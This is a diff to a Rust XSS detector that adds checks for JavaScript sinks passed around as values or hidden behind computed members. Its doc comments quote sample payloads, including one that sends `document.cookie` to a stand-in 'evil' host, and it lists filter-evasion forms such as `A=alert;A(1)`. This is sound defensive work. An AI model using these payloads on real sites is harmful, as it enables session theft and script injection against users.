@@ -95,13 +95,15 @@ fn chain(b: &[u8], mut i: usize) -> Option<(bool, bool, bool, usize)> {
     let mut direct = false;
     let mut member = false;
     let mut parts = 0;
+    let mut last_sink;
     loop {
         let st = i;
         while i < b.len() && is_ident(b[i]) && i - st < 40 {
             i += 1;
         }
         let name = &b[st..i];
-        if sink(name) {
+        last_sink = sink(name);
+        if last_sink {
             any_sink = true;
         }
         if parts == 0 && direct_sink(name) {
@@ -120,8 +122,11 @@ fn chain(b: &[u8], mut i: usize) -> Option<(bool, bool, bool, usize)> {
                 // computed member: skip to the matching `]` (bounded)
                 member = true;
                 let close = b[i..].iter().take(128).position(|&c| c == b']')?;
-                // `top['al'+'ert']` hides the name: count the bracket itself as a sink use
-                any_sink = true;
+                // `top['al'+'ert']` hides the member name behind a global: count it as a
+                // sink use when the object is one
+                if last_sink {
+                    any_sink = true;
+                }
                 i += close + 1;
                 if b.get(i) == Some(&b'.') && b.get(i + 1).is_some_and(|&c| is_ident_start(c)) {
                     i += 1;
@@ -187,6 +192,9 @@ pub fn string_breakout(s: &str) -> bool {
         if !saw_sep {
             continue;
         }
+        if code_mentions_sink(&b[j..b.len().min(j + 256)]) {
+            return true;
+        }
         if let Some((any_sink, _direct, member, e)) = chain(b, j) {
             // `alert (1)` is valid JS, but prose puts spaces there ("open (24h)"): accept a
             // space before the call only after a member access.
@@ -199,11 +207,46 @@ pub fn string_breakout(s: &str) -> bool {
     false
 }
 
+/// Code that calls a direct sink (`alert(`, ``alert`1` ``) or passes one around as a value
+/// (`a=eval;`, `(alert)`, `x=alert,`): the usual way payloads dodge `alert(` filters.
+fn code_mentions_sink(b: &[u8]) -> bool {
+    let mut i = 0;
+    while i < b.len() {
+        if !is_ident_start(b[i]) || (i > 0 && is_ident(b[i - 1])) {
+            i += 1;
+            continue;
+        }
+        let st = i;
+        while i < b.len() && is_ident(b[i]) {
+            i += 1;
+        }
+        if !direct_sink(&b[st..i]) {
+            continue;
+        }
+        let next = b.get(i).copied();
+        if matches!(next, Some(b'(' | b'`')) {
+            return true;
+        }
+        let prev = b[..st].iter().rev().find(|c| !c.is_ascii_whitespace()).copied();
+        if matches!(prev, Some(b'=' | b'(' | b',')) && matches!(next, Some(b';' | b',' | b')')) {
+            return true;
+        }
+    }
+    false
+}
+
 /// The value is itself a script call through a sink: `alert(1)`, `alert`1``,
 /// `document.location='//evil/'+document.cookie`, `top['al'+'ert'](1)`.
 pub fn sink_call(s: &str) -> bool {
     let t = s.trim_start_matches(|c: char| c.is_ascii_whitespace() || c == ';' || c == '(');
     let b = t.as_bytes();
+    // `A=alert;A(1)`, `$$$=eval,$$$(…)`: a sink bound to a name and called later
+    if b.contains(&b'=') && b.contains(&b'(') && code_mentions_sink(b) {
+        let bound = b.windows(2).any(|w| w[0] == b'=' && is_ident_start(w[1]));
+        if bound {
+            return true;
+        }
+    }
     let Some((any_sink, direct, member, e)) = chain(b, 0) else {
         return false;
     };
